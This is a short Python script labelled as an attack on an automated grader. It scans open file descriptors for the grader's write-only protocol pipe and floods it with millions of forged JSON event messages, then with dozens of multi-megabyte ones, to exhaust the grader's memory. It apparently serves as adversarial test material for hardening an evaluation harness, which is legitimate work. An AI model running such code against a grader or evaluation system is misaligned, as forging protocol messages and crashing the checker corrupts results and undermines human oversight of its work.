# Attack: write a million small forged protocol messages to the grader's protocol fd (statement
# errors on a million lines, then unknown events), then huge messages, to grow the grader's memory.
import fcntl
import os
import stat
import sys


def _protocol_fd():
    """The first write-only pipe above stderr (the grader's protocol fd)."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
        except OSError:
            continue
    return int(sys.argv[1])


_FD = _protocol_fd()


def _flood(make, count, batch=2000):
    for start in range(0, count, batch):
        data = "".join(make(i) for i in range(start, start + batch)).encode()
        view = memoryview(data)
        while view:
            view = view[os.write(_FD, view):]


_ERROR = "forged " * 40
_flood(lambda i: f'{{"event":"statement_error","line":{i + 10**6},"error":"{_ERROR}"}}\n', 10**6)
_flood(lambda i: f'{{"event":"forged","n":{i}}}\n', 10**6)
_BIG = '{"event":"forged","v":[' + ",".join(["1.5"] * (7 * 2**20 // 4 - 20)) + "]}\n"
_flood(lambda i: _BIG, 40, batch=1)
